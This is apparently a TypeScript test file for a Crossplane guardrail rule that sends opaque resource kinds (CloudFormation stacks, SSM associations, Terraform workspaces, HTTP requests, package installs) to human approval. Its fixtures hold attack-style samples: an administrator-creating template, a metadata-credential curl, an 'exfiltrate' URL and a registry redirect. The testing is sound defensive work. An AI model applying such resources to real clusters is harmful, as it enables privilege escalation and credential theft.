import { describe, it } from 'vitest';
import { input, resource } from '../../../test/builders.js';
import { finding, runCase, unreadable, SAME, withPolicies, type Case } from '../../../test/builders/aws-data.js';
import type { Finding, KubeObject } from '../../engine/types.js';
import { crossplaneOpaqueTemplate } from './opaque.js';

const rules = [crossplaneOpaqueTemplate];
const held = (kind: string, why: string, action: Finding['action'] = 'RequireApproval') =>
  finding(
    crossplaneOpaqueTemplate,
    action,
    'spec',
    `${kind} cannot be judged field by field: ${why}. Compose the resources it would create instead, or get approval for this exact spec (a template fetched from a URL or repository can change after approval: approve only pinned sources)`,
  );

const TEMPLATE = JSON.stringify({ Resources: { Admin: { Type: 'AWS::IAM::User', Properties: { ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] } } } });

/** One opaque kind: where it is served, and an example of its parameters. */
const KINDS: readonly { name: string; apiVersions: readonly string[]; kind: string; forProvider: Record<string, unknown>; why: string }[] = [
  {
    name: 'a CloudFormation Stack creating an administrator',
    apiVersions: ['cloudformation.aws.upbound.io/v1beta1', 'cloudformation.aws.m.upbound.io/v1beta1', 'cloudformation.aws.crossplane.io/v1alpha1'],
    kind: 'Stack',
    forProvider: { name: 'innocent', templateBody: TEMPLATE, capabilities: ['CAPABILITY_IAM'] },
    why: 'a CloudFormation template can create any AWS resource',
  },
  {
    name: 'a CloudFormation StackSet',
    apiVersions: ['cloudformation.aws.upbound.io/v1beta1', 'cloudformation.aws.upbound.io/v1beta2', 'cloudformation.aws.m.upbound.io/v1beta1'],
    kind: 'StackSet',
    forProvider: { templateBody: TEMPLATE },
    why: 'a CloudFormation StackSet deploys a template, which can create any AWS resource, into other accounts and regions',
  },
  {
    name: 'a CloudFormation StackSetInstance',
    apiVersions: ['cloudformation.aws.upbound.io/v1beta2', 'cloudformation.aws.m.upbound.io/v1beta1'],
    kind: 'StackSetInstance',
    forProvider: { stackSetName: 'admin', accountId: '999999999999' },
    why: 'a CloudFormation StackSet deploys a template, which can create any AWS resource, into other accounts and regions',
  },
  {
    name: 'a Cloud Control resource of any type',
    apiVersions: ['cloudcontrol.aws.upbound.io/v1beta1', 'cloudcontrol.aws.m.upbound.io/v1beta1'],
    kind: 'Resource',
    forProvider: { typeName: 'AWS::IAM::User', desiredState: '{}' },
    why: 'Cloud Control creates a resource of any type from a JSON document',
  },
  {
    name: 'an SSM Document',
    apiVersions: ['ssm.aws.upbound.io/v1beta1', 'ssm.aws.m.upbound.io/v1beta1'],
    kind: 'Document',
    forProvider: { documentType: 'Command', content: '{}' },
    why: 'an SSM document is a script or an automation, run with the permissions of whatever executes it',
  },
  {
    name: 'an SSM Association running a command on every instance',
    apiVersions: ['ssm.aws.upbound.io/v1beta1', 'ssm.aws.upbound.io/v1beta2', 'ssm.aws.m.upbound.io/v1beta1'],
    kind: 'Association',
    forProvider: { name: 'AWS-RunShellScript', targets: [{ key: 'InstanceIds', values: ['*'] }] },
    why: 'an SSM association runs a document (commands, an automation) on instances or with a role',
  },
  {
    name: 'an SSM maintenance window task',
    apiVersions: ['ssm.aws.upbound.io/v1beta2', 'ssm.aws.m.upbound.io/v1beta1'],
    kind: 'MaintenanceWindowTask',
    forProvider: { taskType: 'RUN_COMMAND' },
    why: 'a maintenance window task runs commands, automations, Lambda functions or Step Functions',
  },
  {
    name: 'a Lambda Invocation',
    apiVersions: ['lambda.aws.upbound.io/v1beta1', 'lambda.aws.m.upbound.io/v1beta1'],
    kind: 'Invocation',
    forProvider: { functionName: 'rotate-keys', input: '{"all":true}' },
    why: "an Invocation runs a Lambda function with an input of its choosing, with the function's role",
  },
  {
    name: 'an ARM template deployment in a resource group',
    apiVersions: ['resources.azure.upbound.io/v1beta1', 'resources.azure.m.upbound.io/v1beta1'],
    kind: 'ResourceGroupTemplateDeployment',
    forProvider: { deploymentMode: 'Incremental', templateContent: '{}' },
    why: 'an ARM template can create any Azure resource in its scope',
  },
  {
    name: 'an ARM template deployment in a subscription',
    apiVersions: ['resources.azure.upbound.io/v1beta1', 'resources.azure.m.upbound.io/v1beta1'],
    kind: 'SubscriptionTemplateDeployment',
    forProvider: { location: 'westeurope', templateContent: '{}' },
    why: 'an ARM template can create any Azure resource in its scope',
  },
  {
    name: 'an Azure CLI deployment script',
    apiVersions: ['resources.azure.upbound.io/v1beta2', 'resources.azure.m.upbound.io/v1beta1'],
    kind: 'ResourceDeploymentScriptAzureCli',
    forProvider: { scriptContent: 'az role assignment create --role Owner' },
    why: 'a deployment script runs any Azure CLI or PowerShell script, with a managed identity',
  },
  {
    name: 'an Azure PowerShell deployment script',
    apiVersions: ['resources.azure.upbound.io/v1beta1', 'resources.azure.m.upbound.io/v1beta1'],
    kind: 'ResourceDeploymentScriptAzurePowerShell',
    forProvider: { scriptContent: 'New-AzRoleAssignment' },
    why: 'a deployment script runs any Azure CLI or PowerShell script, with a managed identity',
  },
  {
    name: 'an Azure VM run command',
    apiVersions: ['compute.azure.upbound.io/v1beta2', 'compute.azure.m.upbound.io/v1beta1'],
    kind: 'VirtualMachineRunCommand',
    forProvider: { source: { script: 'curl http://169.254.169.254/metadata/identity' } },
    why: 'a run command runs a script on a virtual machine, with its managed identity',
  },
  {
    name: 'a GCP OS policy assignment',
    apiVersions: ['osconfig.gcp.upbound.io/v1beta2', 'osconfig.gcp.m.upbound.io/v1beta1'],
    kind: 'OsPolicyAssignment',
    forProvider: { location: 'europe-west1-b' },
    why: 'an OS policy assignment runs scripts on VMs, with their service account',
  },
  {
    name: 'a GCP patch deployment',
    apiVersions: ['osconfig.gcp.upbound.io/v1beta2', 'osconfig.gcp.m.upbound.io/v1beta1'],
    kind: 'PatchDeployment',
    forProvider: { patchDeploymentId: 'nightly' },
    why: 'a patch deployment runs pre- and post-patch scripts on VMs, with their service account',
  },
  {
    name: 'a Terraform Workspace',
    apiVersions: ['tf.upbound.io/v1beta1', 'tf.m.upbound.io/v1beta1', 'tf.crossplane.io/v1alpha1'],
    kind: 'Workspace',
    forProvider: { source: 'Inline', module: 'resource "aws_iam_user" "admin" {}' },
    why: "a Terraform module can create anything the provider's credentials allow",
  },
  {
    name: 'an OpenTofu Workspace',
    apiVersions: ['opentofu.upbound.io/v1beta1', 'opentofu.m.upbound.io/v1beta1'],
    kind: 'Workspace',
    forProvider: { source: 'Remote', module: 'git::https://example.com/modules.git' },
    why: "an OpenTofu module can create anything the provider's credentials allow",
  },
  {
    name: 'a Helm Release',
    apiVersions: ['helm.crossplane.io/v1beta1', 'helm.m.crossplane.io/v1beta1'],
    kind: 'Release',
    forProvider: { chart: { name: 'cluster-admin-binding', repository: 'https://example.com/charts' } },
    why: "a Helm chart installs any Kubernetes objects, RBAC included, with the provider's permissions",
  },
  {
    name: 'an HTTP Request',
    apiVersions: ['http.crossplane.io/v1alpha2', 'http.m.crossplane.io/v1alpha2'],
    kind: 'Request',
    forProvider: { url: 'https://example.com/exfiltrate' },
    why: 'it sends any HTTP request to any endpoint, with the secrets the provider fills in',
  },
  {
    name: 'an HTTP DisposableRequest',
    apiVersions: ['http.crossplane.io/v1alpha2', 'http.m.crossplane.io/v1alpha2'],
    kind: 'DisposableRequest',
    forProvider: { url: 'https://example.com/exfiltrate', method: 'POST' },
    why: 'it sends any HTTP request to any endpoint, with the secrets the provider fills in',
  },
  {
    name: 'an AnsibleRun',
    apiVersions: ['ansible.crossplane.io/v1alpha1', 'ansible.m.crossplane.io/v1alpha1'],
    kind: 'AnsibleRun',
    forProvider: { playbookInline: '- hosts: all' },
    why: 'an Ansible playbook runs anything on the hosts it reaches',
  },
];

const kindCases: Case[] = KINDS.flatMap((k) =>
  k.apiVersions.map(
    (apiVersion): Case => ({
      name: `${k.name} (${apiVersion})`,
      reason: 'it can create anything and cannot be judged field by field: held for a person to read',
      resource: resource(apiVersion, k.kind, k.forProvider),
      rules,
      want: { desired: SAME, mutations: [], findings: [held(k.kind, k.why)] },
    }),
  ),
);

/** Crossplane's own kinds that run a pipeline or code, each in the shape Crossplane serves it. */
const CROSSPLANE: readonly { name: string; resource: KubeObject; why: string }[] = [
  {
    name: 'a Composition of its own, whose pipeline writes an approval ConfigMap',
    resource: {
      apiVersion: 'apiextensions.crossplane.io/v1',
      kind: 'Composition',
      metadata: { name: 'no-guardrails' },
      spec: {
        compositeTypeRef: { apiVersion: 'platform.example.org/v1alpha1', kind: 'XApp' },
        mode: 'Pipeline',
        pipeline: [{ step: 'create', functionRef: { name: 'function-patch-and-transform' }, input: { apiVersion: 'pt.fn.crossplane.io/v1beta1', kind: 'Resources', resources: [] } }],
      },
    },
    why: "a Composition is a pipeline of functions that composes any resources with Crossplane's permissions, for any XR that selects it, and these guardrails judge only the pipelines they are a step of",
  },
  ...['Operation', 'CronOperation', 'WatchOperation'].map((kind) => ({
    name: `an ${kind}`,
    resource: { apiVersion: 'ops.crossplane.io/v1alpha1', kind, metadata: { name: 'x' }, spec: { mode: 'Pipeline', pipeline: [{ step: 'go', functionRef: { name: 'function-go-templating' } }] } },
    why: "an Operation runs a pipeline of functions that can create or change any resources with Crossplane's permissions",
  })),
  ...[
    ['pkg.crossplane.io/v1', 'Provider'],
    ['pkg.crossplane.io/v1', 'Function'],
    ['pkg.crossplane.io/v1beta1', 'Function'],
    ['pkg.crossplane.io/v1', 'Configuration'],
    ['pkg.crossplane.io/v1beta1', 'DeploymentRuntimeConfig'],
  ].map(([apiVersion, kind]) => ({
    name: `a ${kind} (${apiVersion})`,
    resource: { apiVersion: apiVersion!, kind: kind!, metadata: { name: 'x' }, spec: { package: 'registry.example.com/agent/x:v1' } },
    why: 'it installs or configures a package, which runs code (or brings Compositions) from an image of its choosing, with the permissions Crossplane grants it',
  })),
  ...['ProviderRevision', 'FunctionRevision', 'ConfigurationRevision'].map((kind) => ({
    name: `a ${kind}`,
    resource: { apiVersion: 'pkg.crossplane.io/v1', kind, metadata: { name: 'x-0123456789ab' }, spec: { image: 'registry.example.com/agent/x:v1', desiredState: 'Active', revision: 99 } },
    why: 'it installs or configures a package, which runs code (or brings Compositions) from an image of its choosing, with the permissions Crossplane grants it',
  })),
  {
    name: 'an ImageConfig sending every Crossplane package pull elsewhere',
    resource: { apiVersion: 'pkg.crossplane.io/v1beta1', kind: 'ImageConfig', metadata: { name: 'redirect' }, spec: { matchImages: [{ type: 'Prefix', prefix: 'xpkg.crossplane.io' }], rewriteImage: { prefix: 'registry.example.com/agent' } } },
    why: "an ImageConfig tells Crossplane's package manager where to pull the images of every matching package from, with which credentials and signature checks: it can swap the code of any provider or function on its next install or upgrade",
  },
  {
    name: 'a CompositionRevision of its own',
    resource: {
      apiVersion: 'apiextensions.crossplane.io/v1',
      kind: 'CompositionRevision',
      metadata: { name: 'app-0123456', labels: { channel: 'stable' } },
      spec: { compositeTypeRef: { apiVersion: 'platform.example.org/v1alpha1', kind: 'XApp' }, revision: 99, mode: 'Pipeline', pipeline: [{ step: 'create', functionRef: { name: 'function-patch-and-transform' } }] },
    },
    why: "a CompositionRevision is a Composition's pipeline as XRs run it: one that selects revisions by label or name runs whatever this one composes, with Crossplane's permissions",
  },
  ...['v1alpha1', 'v1beta1'].map((version) => ({
    name: `an EnvironmentConfig (${version}) widening what other XRs patch from`,
    resource: { apiVersion: `apiextensions.crossplane.io/${version}`, kind: 'EnvironmentConfig', metadata: { name: 'network-defaults' }, data: { allowedCidrs: ['0.0.0.0/0'] } },
    why: "every Composition that selects an EnvironmentConfig reads its data: patched into other XRs' resources, it decides what they compose (their accounts, regions and address ranges among them)",
  })),
  ...[
    ['apiextensions.crossplane.io/v2', 'CompositeResourceDefinition'],
    ['apiextensions.crossplane.io/v1', 'CompositeResourceDefinition'],
    ['apiextensions.crossplane.io/v1alpha1', 'ManagedResourceDefinition'],
  ].map(([apiVersion, kind]) => ({
    name: `a ${kind} (${apiVersion})`,
    resource: { apiVersion: apiVersion!, kind: kind!, metadata: { name: 'xapps.platform.example.org' }, spec: { group: 'platform.example.org', names: { kind: 'XApp', plural: 'xapps' } } },
    why: 'it defines a cluster-wide API, whose CRD Crossplane creates with its own permissions; under an existing name it takes over that API for everyone who uses it',
  })),
];

const crossplaneCases: Case[] = CROSSPLANE.map((k) => ({
  name: k.name,
  reason: 'composed by an agent, it runs a pipeline or code of its own, outside the pipeline guardrails is a step of',
  resource: k.resource,
  rules,
  want: { desired: SAME, mutations: [], findings: [held(k.resource.kind as string, k.why)] },
}));

const other: Case[] = [
  {
    name: 'an observe-only CloudFormation Stack',
    reason: 'observing runs nothing (adoption is crossplane-adoption’s concern)',
    resource: withPolicies(resource('cloudformation.aws.upbound.io/v1beta1', 'Stack', { templateBody: TEMPLATE }), ['Observe']),
    rules,
    want: { desired: SAME, mutations: [], findings: [] },
  },
  {
    name: 'an unreadable Stack is still held',
    reason: 'the engine holds what it cannot read with the action of the rule it kept from judging',
    resource: { apiVersion: 'cloudformation.aws.upbound.io/v1beta1', kind: 'Stack', spec: 'oops' },
    rules,
    want: { desired: SAME, mutations: [], findings: [unreadable('RequireApproval', 'spec', 'spec is the string "oops", not an object; the resource cannot be checked')] },
  },
  {
    name: 'an S3 Bucket is judged field by field',
    reason: 'only the opaque kinds',
    resource: resource('s3.aws.upbound.io/v1beta2', 'Bucket', { region: 'eu-west-1' }),
    rules,
    want: { desired: SAME, mutations: [], findings: [] },
  },
  {
    name: 'a Stack of a look-alike group',
    reason: 'only the providers’ own groups',
    resource: resource('cloudformation.aws.upbound.io.example.com/v1', 'Stack', {}),
    rules,
    want: { desired: SAME, mutations: [], findings: [] },
  },
  {
    name: 'a Workspace of another product',
    reason: 'AMP and Grafana Workspaces are not Terraform',
    resource: resource('amp.aws.upbound.io/v1beta1', 'Workspace', { alias: 'metrics' }),
    rules,
    want: { desired: SAME, mutations: [], findings: [] },
  },
  {
    name: 'action Deny',
    reason: 'a platform may refuse these kinds outright',
    resource: resource('cloudformation.aws.upbound.io/v1beta1', 'Stack', { templateBody: TEMPLATE }),
    rules,
    input: input({ rules: { [crossplaneOpaqueTemplate.id]: { action: 'Deny' } } }),
    want: { desired: SAME, mutations: [], findings: [held('Stack', 'a CloudFormation template can create any AWS resource', 'Deny')] },
  },
];

describe('crossplane-opaque-template', () => {
  it.each([...kindCases, ...crossplaneCases, ...other])('$name', (c) => runCase(c));
});
